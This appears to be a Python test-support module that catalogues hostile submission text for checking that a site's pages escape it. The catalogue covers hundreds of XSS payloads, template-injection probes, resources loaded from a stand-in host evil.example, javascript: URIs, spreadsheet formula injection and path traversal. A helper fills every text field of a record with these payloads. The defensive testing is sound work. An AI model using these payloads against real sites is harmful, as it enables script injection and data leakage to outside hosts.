"""Hostile text: what a submission's name, title or any other words of it may hold.

Whatever of it a browser would run sets ``window.__pwned``, opens a dialog, writes to the console or asks another host.
"""

import base64
from itertools import product
from typing import Any, TypeVar

import msgspec
from msgspec import inspect

T = TypeVar("T")

RUN = "window.__pwned=1"
HOST = "//evil.example"
PIXEL = base64.b64decode("UklGRh4AAABXRUJQVlA4TBEAAAAvAAAAAAdQniKXov+BiOh/AAA=")  #: a lossless WebP of one pixel

#: A few of each kind, for checks that are made with every one of them.
FEW = [
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "</svg><script>alert(1)</script>",
    "<math><mtext></mtext><style><img src onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" style="background:url(//evil.example)',
    "x onfocus=alert(1) autofocus",
    "<a href=javascript:alert(1)>x</a>",
    "javascript:alert(1)",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<!-- <script>alert(1)</script> -->",
    "--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)",
    "</td></tr></table><script>alert(1)</script>",
    "</p></dd></details><b>bold</b>",
    "</pre><h1>Winner</h1>",
    "{{ 7 * 7 }}{% raw %}",
    "{% include 'base.html' %}",
    "\x00<script\x00>alert(1)</script>",
    "<\u202escript>alert(1)",
    "\ud800<script>alert(1)</script>\udfff",
    "line\r\n<script>\r\nalert(1)",
    "https://evil.example/?a=1&b=<2>",
    "\N{FULLWIDTH LESS-THAN SIGN}script\N{FULLWIDTH GREATER-THAN SIGN}alert(1)",
    "`${alert(1)}`",
    "<" * 200,
    "\"'&<>" * 60,
]

_SCRIPTS = [
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script >{RUN}</script >",
    f"<script/x>{RUN}</script>",
    f"<script\t>{RUN}</script\n>",
    f"<script\n>{RUN}</script",
    f"<script>{RUN}//",
    f"<<script>{RUN}//<</script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f"<script type=module>{RUN}</script>",
    f"<script type=text/javascript>{RUN}</script>",
    f"<script type=''>{RUN}</script>",
    f"<script async src={HOST}/a.js></script>",
    f"<script src='data:text/javascript,{RUN}'></script>",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href='data:text/javascript,{RUN}'/></svg>",
    "<script>console.error('pwned')</script>",
    "<script>document.write('<b id=pwned>')</script>",
    "<script>confirm(1)</script>",
    "<script>prompt(1)</script>",
    "<script type=importmap>{}</script>",
    "<script type=speculationrules>{}</script>",
]

_TAGS = ("audio", "body", "button autofocus", "details open", "div style=animation-name:x", "embed src=x",
         "frameset", "iframe", "img src=x", "input autofocus", "link rel=stylesheet href=x", "marquee", "math",
         "object data=x", "script src=x", "select autofocus", "source src=x", "style", "svg",
         "textarea autofocus", "track src=x", "video src=x", "xss tabindex=1 autofocus")  # fmt: skip
_HANDLERS = [f"<{tag} onload={RUN} onerror={RUN} onfocus={RUN}>" for tag in _TAGS] + [
    f"<details open ontoggle={RUN}>",
    f"<marquee onstart={RUN}>",
    f"<body onpageshow={RUN}>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set onbegin={RUN} attributeName=x>",
    f"<img src=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<img src=x onerror\n=\n{RUN}>",
    f"<img src=x onerror='{RUN}'",
    f'<img src="x`"onerror={RUN}>',
    f"<image src=x onerror={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<picture><source srcset=x><img onerror={RUN}></picture>",
]

_FOREIGN = [
    f"<svg><foreignObject><img src=x onerror={RUN}></foreignObject></svg>",
    f"<svg><style><img src=x onerror={RUN}></style></svg>",
    f"<svg><use href='data:image/svg+xml,<svg id=x onload={RUN}>#x'/></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><image href={HOST}/a.png></svg>",
    f"<math><mi xlink:href=javascript:{RUN}>x</mi></math>",
    f"<math><annotation-xml encoding=text/html><img src=x onerror={RUN}></annotation-xml></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={RUN}>",
    f"<noscript><p title='</noscript><img src=x onerror={RUN}>'>",
    f"<template><script>{RUN}</script></template>",
    f"<div><template shadowrootmode=open><script>{RUN}</script></template></div>",
]

_ADDRESSES = [f"<{tag}={scheme}{RUN}>x" for tag, scheme in product(
    ("a href", "form action", "button formaction", "iframe src", "object data", "embed src", "area href"),
    ("javascript:", "JaVaScRiPt:", "&#106;avascript:", "data:text/html,<script>"),
)] + [
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f" \tjavascript:{RUN}",
    f"java\nscript:{RUN}",
    f"java\tscript:{RUN}",
    f"\x01javascript:{RUN}",
    f"javascript://x%0a{RUN}",
    f"vbscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+",
    f"{HOST}/",
    "\\\\evil.example\\share",
    "file:///etc/passwd",
    "#content",
    "?x=1#y",
]  # fmt: skip

_BREAKOUTS = [f"{quote}{end}{more}" for quote, end, more in product(
    ("'", '"', "`", "\\'", '\\"', "&quot;", "&#39;"),
    (" ", "/", ">", "/>"),
    (f"autofocus onfocus={RUN} x=", f"<img src=x onerror={RUN}>"),
)] + [
    f"' onload='{RUN}' '",
    f'" onerror="{RUN}" "',
    f'"onmouseover={RUN}//',
    f'" style=animation:x onanimationend="{RUN}',
]  # fmt: skip

_CLOSERS = [f"</{tag}><script>{RUN}</script>" for tag in (
    "a", "bdi", "button", "desc", "details", "html", "iframe", "main", "noembed", "noframes", "noscript", "option",
    "plaintext", "pre", "script", "section", "select", "span", "style", "svg", "table", "template", "text",
    "textarea", "title", "xmp",
)]  # fmt: skip

#: Tags that swallow what comes after them, if they are taken for tags.
_SWALLOWERS = ["<title>", "<textarea>", "<style>", "<xmp>", "<plaintext>", "<select>", "<noscript>", "<iframe>", "<!--",
               "<table>", "<script>", "<svg>", "<math>", "<template>", "<?php", "<%", "<!DOCTYPE x ["]  # fmt: skip

_COMMENTS = [
    f"<!--><script>{RUN}</script>-->",
    f"<!---><script>{RUN}</script>",
    f"--!><script>{RUN}</script>",
    f"<!--[if true]><script>{RUN}</script><![endif]-->",
    f"<!-- --!><script>{RUN}</script>",
    f"<![CDATA[><script>{RUN}</script>]]>",
    f"]]><script>{RUN}</script>",
    f"<svg><![CDATA[</svg><script>{RUN}</script>]]>",
    f"<?xml version='1.0'?><script>{RUN}</script>",
    f"<!ENTITY x SYSTEM 'file:///etc/passwd'><script>{RUN}</script>",
    f"*/{RUN}/*",
    f"//\n{RUN}",
]

_TEMPLATES = ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{=7*7}}", "*{7*7}", "@(7*7)", "[[7*7]]", "{7*7}", "%(x)s",
              "{% if 1 %}", "{# comment", "{{ config }}", "{{ ''.__class__.__mro__ }}", "{{ '<script>'|safe }}",
              f"{{{{constructor.constructor('{RUN}')()}}}}", "{0.__class__}", "%s%n%x", "$(touch pwned)", "`id`",
              "{% endblock %}", "{% endtrans %}", "%(count)d", "{{ root }}"]  # fmt: skip

_UNICODE = [
    f"\N{FULLWIDTH LESS-THAN SIGN}img src=x onerror={RUN}\N{FULLWIDTH GREATER-THAN SIGN}",
    f"\N{SMALL LESS-THAN SIGN}script\N{SMALL GREATER-THAN SIGN}{RUN}",
    f"\N{SINGLE LEFT-POINTING ANGLE QUOTATION MARK}script>{RUN}",
    "\N{LEFT-TO-RIGHT OVERRIDE}abpn\N{RIGHT-TO-LEFT OVERRIDE}gnp.exe",
    "\N{RIGHT-TO-LEFT ISOLATE}\N{RIGHT-TO-LEFT EMBEDDING}never popped",
    "\N{POP DIRECTIONAL ISOLATE}\N{POP DIRECTIONAL FORMATTING}",
    "\u05d0\u05d1\u05d2 \u0627\u0644\u0639\u0631\u0628\u064a\u0629 123",
    f"\x00<img src=x onerror={RUN}>",
    f"<\x00script>{RUN}</script>",
    f"<img src=x on\x00error={RUN}>",
    f"<img\x0bsrc=x\x0conerror={RUN}>",
    f"\N{ZERO WIDTH NO-BREAK SPACE}<script>{RUN}</script>",
    f"<scr\N{ZERO WIDTH SPACE}ipt>{RUN}</scr\N{ZERO WIDTH SPACE}ipt>",
    f"<\N{LATIN SMALL LETTER LONG S}cript>{RUN}</\N{LATIN SMALL LETTER LONG S}cript>",
    f"<\N{KELVIN SIGN}bd onfocus={RUN}>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\xc0\xbcscript\xc0\xbe{RUN}",
    f"%3Cscript%3E{RUN}%3C/script%3E",
    f"\ud83c<script>{RUN}</script>",
    f"\udf00\ud83c<img src=x onerror={RUN}>",
    "\udcff\udc80 bytes of a file name that is no UTF-8",
    "\N{LINE SEPARATOR}\N{PARAGRAPH SEPARATOR}" + RUN,
    "\ufffe\uffff\U0010ffff",
    "e" + "\N{COMBINING ACUTE ACCENT}" * 500,
    "\N{ARABIC LIGATURE BISMILLAH AR-RAHMAN AR-RAHEEM}" * 20,
    "\x7f\x80\x85\x9f\xa0\xad",
    "\x1b[31mred\x1b[0m\x07\x08",
    "\u3000\u2003\u200b",
    "\N{FAMILY}\N{ZERO WIDTH JOINER}\N{WOMAN}\N{VARIATION SELECTOR-16}\N{REGIONAL INDICATOR SYMBOL LETTER A}",
]

_STYLES = [
    f"<style>*{{background:url({HOST}/a.png)}}</style>",
    f"<style>@import '{HOST}/a.css';</style>",
    f"<style>@font-face{{font-family:x;src:url({HOST}/a.woff)}}*{{font-family:x}}</style>",
    f"</style><style>*{{background:url({HOST}/a.png)}}",
    f"<p style=background:url({HOST}/a.png)>",
    f";background:url({HOST}/a.png)",
    f"}}*{{background:url({HOST}/a.png)}}",
    f"width:expression({RUN})",
    "position:fixed;inset:0;z-index:9999",
    f"<div style='position:fixed;inset:0;background:url({HOST}/a.png)'>",
    "0%;height:99999px",
    "\\3c script\\3e",
]

_LOADERS = [
    f"<meta http-equiv=refresh content='0;url={HOST}'>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    '<meta http-equiv=Content-Security-Policy content="default-src *">',
    "<meta charset=utf-7>",
    f"<base href={HOST}>",
    f"<base href=javascript:{RUN}//>",
    "<base target=pwned>",
    f"<link rel=stylesheet href={HOST}/a.css>",
    f"<link rel=preload as=script href={HOST}/a.js>",
    f"<link rel=prefetch href={HOST}/a>",
    f"<link rel=dns-prefetch href={HOST}>",
    f"<link rel=icon href={HOST}/a.ico>",
    f"<link rel=manifest href={HOST}/a.json>",
    f"<img src={HOST}/a.png>",
    f"<img srcset='{HOST}/a.png 1x'>",
    f"<input type=image src={HOST}/a.png>",
    f"<video poster={HOST}/a.png>",
    f"<audio src={HOST}/a.mp3>",
    f"<object data={HOST}/a.swf>",
    f"<embed src={HOST}/a.swf>",
    f"<iframe src={HOST}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    "<iframe srcdoc=&lt;script&gt;parent.__pwned=1&lt;/script&gt;></iframe>",
    f"<iframe src='data:text/html,<script>top.{RUN}</script>'></iframe>",
    f"<table background={HOST}/a.png>",
    f"<body background={HOST}/a.png>",
    f"<form action={HOST}><input name=x><button autofocus>x</button></form>",
    f"<a href={HOST} ping={HOST}/p>x</a>",
    "<portal src=//evil.example>",
    "<img name=getElementById><form id=content><input name=attributes>",
    "<p id=ranking></p><section aria-labelledby=ranking>",
]

_ENTITIES = [
    f"&lt;img src=x onerror={RUN}&gt;",
    f"&#x3c;script&#x3e;{RUN}&#x3c;/script&#x3e;",
    f"&#0000060script&#62;{RUN}",
    f"&LT;script&GT;{RUN}",
    f"&amp;lt;script&amp;gt;{RUN}",
    f"&quot; onfocus=&quot;{RUN}",
    "&#0;&#x80;&#xd800;&#x110000;&#xffffffffff;",
    "&notit; &nbsp &copy &&& &;",
    "&" * 100,
]

_JSON = [
    f'"}}</script><script>{RUN}</script>',
    f'"}}];{RUN};[{{"',
    f'\\"}};{RUN};//',
    f"\\u003cscript\\u003e{RUN}\\u003c/script\\u003e",
    f"\\x3cscript\\x3e{RUN}",
    f"'-({RUN})-'",
    f"\\';{RUN}//",
    f'\\\\";{RUN}//',
    f"</script \t>{RUN}",
    "<!--<script>",
    '{"__proto__": {"polluted": 1}}',
    "__proto__",
    "constructor",
    "toString",
    "null",
    "undefined",
    "NaN",
    "-0",
    "1e999",
]

_POLYGLOTS = [
    f"jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk={RUN} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>"
    f"\\x3csVg/<sVg/oNloAd={RUN}//>\\x3e",
    f'">><marquee><img src=x onerror={RUN}></marquee>"></plaintext\\></|\\><plaintext/onmouseover={RUN}><script>{RUN}'
    f'</script>@gmail.com<isindex formaction=javascript:{RUN} type=submit>\'-->"></script><script>{RUN}</script>"><img/'
    f'id="confirm&lpar;1)"/alt="/"src="/"onerror={RUN}>\'">',
    f"'\"`><svg onload={RUN}>{{{{7*7}}}}${{7*7}}</script><script>{RUN}</script>",
    f"</title></style></textarea></script></noscript></template></select>--><img src=x onerror={RUN}>",
]

_LONG = [
    "w" * 5000,
    "\N{CJK UNIFIED IDEOGRAPH-4E00}" * 2000,
    f"<img src=x onerror={RUN}>" * 100,
    "<b>" * 1000,
    "word " * 1000,
    "a" * 300 + ".html",
]

_LINES = ["one\ntwo", "one\r\ntwo", "one\rtwo", "\n" * 50, "\ttab", " spaces   inside ", "", " ",
          f"x\n<script>\n{RUN}\n</script>", "\x0bvertical\x0cform"]  # fmt: skip

_PATHS = ["../../../etc/passwd", "..", ".", "/etc/passwd", "a/b", "a\\b", "C:\\x", "con", "nul.txt", ".htaccess",
          "a%2fb", "a?b#c", "a:b", "index.html", "~root", "-rf"]  # fmt: skip

#: That a table or a document of other kinds would take for more than words.
_SHEETS = ["=1+1", "=HYPERLINK(\"http://evil.example\",\"x\")", "=cmd|' /C calc'!A0", "+1", "-1+1", "@SUM(1)", "\t=1",
           "a,b", 'a"b', "a;b", "a|b", "[x](javascript:alert(1))", "![x](//evil.example/a.png)", "**bold** _x_ `y`",
           "\\input{/etc/passwd}", "\\write18{id}", "100% of $x_1^2$ & {\\bf b} ~ # \\\\"]  # fmt: skip

#: All of them, each once.
PAYLOADS = list(
    dict.fromkeys(
        FEW + _SCRIPTS + _HANDLERS + _FOREIGN + _ADDRESSES + _BREAKOUTS + _CLOSERS + _SWALLOWERS + _COMMENTS
        + _TEMPLATES + _UNICODE + _STYLES + _LOADERS + _ENTITIES + _JSON + _POLYGLOTS + _LONG + _LINES + _PATHS
        + _SHEETS
    )
)  # fmt: skip

#: Those that a file of results can hold: a name in memory may be no Unicode, but JSON is.
WRITTEN = [words for words in PAYLOADS if not any("\ud800" <= c <= "\udfff" for c in words)]

# Records that are hostile in every word

_STEERING = {
    ("Results", "formula"), ("ChallengeScore", "formula"), ("ChallengeScore", "backend"), ("LatencyReport", "backend"),
    ("BackendReport", "backend"), ("Trial", "id"), ("Window", "pictures"), ("FormRow", "reference"), ("Op", "name"),
    ("Tensor", "dtype"),
}  # fmt: skip


def hostile(kind: type[T], words: str, given: T | None = None) -> T:
    """A record all of whose text is ``words``, and which has every field that its type has.

    Args:
        given: its numbers, and its texts that the pages look things up by, stay; what it lacks is made up. Each of its
            dictionaries gets ``words`` for a further key.
    """
    found = _hostile(msgspec.inspect.type_info(kind), words, given)
    assert isinstance(found, kind)
    return found


def _hostile(kind: Any, words: str, given: Any) -> Any:
    """Each type of msgspec's in its own way."""
    match kind:
        case inspect.StrType() | inspect.AnyType():
            return words
        case inspect.BytesType():
            return given or PIXEL
        case inspect.LiteralType():
            return kind.values[0] if given is None else given
        case inspect.BoolType() | inspect.IntType() | inspect.FloatType():
            return 1 if given is None else given
        case inspect.UnionType():
            return _hostile(next(t for t in kind.types if not isinstance(t, inspect.NoneType)), words, given)
        case inspect.VarTupleType() | inspect.ListType():
            return tuple(_hostile(kind.item_type, words, each) for each in given or (None,))
        case inspect.TupleType():
            pairs = zip(kind.item_types, given or (None,) * len(kind.item_types), strict=True)
            return tuple(_hostile(of, words, each) for of, each in pairs)
        case inspect.DictType():
            return {key: _hostile(kind.value_type, words, each) for key, each in {**(given or {}), words: None}.items()}
        case inspect.StructType() | inspect.NamedTupleType() | inspect.DataclassType():
            return kind.cls(**{f.name: _field(kind.cls, f, words, given) for f in kind.fields})
    raise AssertionError(f"no hostile {kind}")


def _field(record: type, field: inspect.Field, words: str, given: Any) -> Any:
    value = getattr(given, field.name, None)
    return value if value and (record.__name__, field.name) in _STEERING else _hostile(field.type, words, value)
